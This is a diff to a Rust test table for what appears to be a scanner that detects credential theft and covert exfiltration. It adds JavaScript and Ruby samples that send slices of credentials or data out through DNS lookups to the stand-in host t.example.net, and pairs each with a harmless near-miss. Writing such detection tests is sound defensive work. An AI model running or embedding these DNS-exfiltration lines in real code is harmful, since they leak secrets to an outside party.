@@ -1602,8 +1602,8 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
     // folder joined with a file name kept in a variable, `.gem` joined
     // with `credentials`, an object-storage SDK's upload and a Redis
     // client at a host written into the skill (each beside a credential
-    // read), Ruby, Go and .NET mail clients, and a Node resolver given a
-    // name built from data and a domain.
+    // read), Ruby, Go and .NET mail clients, and a Node or Ruby resolver
+    // given a name built from data and a domain.
     (
         "credential-file",
         "scripts/x.py",
@@ -1639,6 +1639,18 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
         "scripts/x.js",
         "await dns.promises.resolve4(`${hex.slice(i, i + 60)}.${i}.t.example.net`)",
         "await dns.promises.resolve4(`${host}`)",
+    ),
+    (
+        "dns-lookup",
+        "scripts/x.js",
+        "await resolveTxt(creds.slice(i, i + 50) + '.r' + i + '.t.example.net')",
+        "await resolveTxt('_dmarc.' + domain)",
+    ),
+    (
+        "dns-lookup",
+        "lib/x.rb",
+        "Resolv::DNS.new.getaddress(\"#{part}.#{i}.t.example.net\")",
+        "Resolv::DNS.new.getaddress(host)",
     ),
     // Batch 21 (covert channels and unusual sinks), each with its near
     // miss: a shell handed to a DNS tunnel or a WebSocket relay, the
